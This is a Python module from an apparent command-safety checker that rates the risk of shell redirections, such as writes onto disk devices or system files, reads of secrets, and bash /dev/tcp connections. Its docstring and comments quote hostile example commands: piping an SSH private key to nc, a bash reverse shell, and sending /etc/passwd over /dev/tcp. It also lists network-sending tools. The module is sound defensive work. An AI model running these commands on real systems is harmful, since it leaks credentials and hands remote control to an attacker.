"""Redirections, whatever the command: `>` and `>>` write, `<` reads, `/dev/tcp` connects.

Output onto a disk device is `critical`; over a system file `high` (appending `medium`, except
to the system's own configuration under /etc, /boot, /usr: `high`); onto a start-up file, a key
file or outside the workspace as targets.judge_write says. Input read from a
secret is `credentials` (`exfiltration` when the command sends it on: `nc host 9 < ~/.ssh/id_rsa`).
bash's `/dev/tcp/HOST/PORT` and `/dev/udp/...` make a shell's input and output a network
connection: a shell wired to one is a reverse shell (`critical`); `exec 3<>/dev/tcp/...` opens
one for the script; `echo > /dev/tcp/host/port` only probes a port.
"""

from __future__ import annotations

from nerve.safety.invocation import Ctx
from nerve.safety.lexer import Command
from nerve.safety.paths import classify, is_system_config
from nerve.safety.targets import WHERE, judge_read, judge_write
from nerve.safety.verdict import LOW, Finding, RiskLevel, higher, wordset
from nerve.safety.wrappers import basename, prog_of

__all__ = ["NET_SENDERS", "SHELLS", "judge_redirects"]

SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh"})
NET_SENDERS = wordset(
    "nc ncat netcat socat telnet curl wget ssh scp sftp openssl rsync ftp mail mailx mutt sendmail"
)
_WRITE_OPS = frozenset({">", ">|", "&>", "<>", ">>", "&>>", ">&"})
_SYSTEM = ("/etc/", "/proc/", "/root/")
_PROBES = frozenset({"", "echo", "printf", ":", "true", "timeout"})


def _socket(prog: str, op: str, target: str, args: list[str]) -> Finding | None:
    if not target.startswith(("/dev/tcp/", "/dev/udp/")):
        return None
    host = target.split("/", 3)[3] if target.count("/") >= 3 else target
    if prog in SHELLS:
        why = f"{prog}'s input and output go to {host}: a reverse shell"
        return Finding("critical", why, "exfiltration")
    if prog == "exec":
        why = f"the shell opens a network connection to {host} as a file descriptor"
        return Finding("high", why, "exfiltration")
    if op != "<" and prog not in _PROBES:
        sent = [a for a in args if judge_read(a, prog).risk != "low" or a.startswith(_SYSTEM)]
        if sent:  # `cat /etc/passwd > /dev/tcp/host/80`
            return Finding("high", f"{prog} sends {sent[0]} to {host}", "exfiltration")
        return Finding("medium", f"{prog} sends its output to {host}", "exfiltration")
    return LOW


def judge_redirects(cmd: Command, ctx: Ctx) -> Finding:
    """What this command's redirections do, before its program is judged."""
    # the program the redirections apply to, wrappers stripped: `nohup bash -i >& /dev/tcp/...`
    prog = (prog_of(cmd)[0] or basename(cmd.words[0])) if cmd.words else ""
    best = LOW
    for red in cmd.redirects:
        op, target = red.op, red.target
        if op in ("<<", "<<-", "<<<") or target.isdigit() or target == "-":
            continue
        socket = _socket(prog, op, target, cmd.words[1:]) if "/dev/" in target else None
        if socket is not None:
            best = higher(best, socket)
            continue
        if op == "<":
            read = judge_read(target, f"{prog or 'a command'}")
            sent = read.risk != "low" or target.startswith(("/etc/", "/proc/"))
            if sent and prog in NET_SENDERS:
                read = Finding("high", f"{prog} sends {target} to another host", "exfiltration")
            best = higher(best, read)
            continue
        if op not in _WRITE_OPS:
            continue
        append = op in (">>", "&>>")
        cls = classify(target)
        if cls == "device":
            why = f"output is written straight onto the disk device {target}"
            return Finding("critical", why, "destructive")
        best = higher(best, judge_write(target, ctx, "a redirection", append=append))
        if cls in ("system", "system_root", "home_root"):
            # appending to the operating system's own configuration (/etc, /boot, /usr) changes
            # the system as surely as overwriting it: `>> /etc/ld.so.conf`, `>> /etc/crontab`
            level: RiskLevel = "medium" if append and not is_system_config(target) else "high"
            verb = "appends to" if append else "overwrites"
            why = f"a redirection {verb} {WHERE[cls]} ({target})"
            best = higher(best, Finding(level, why, "system"))
    return best
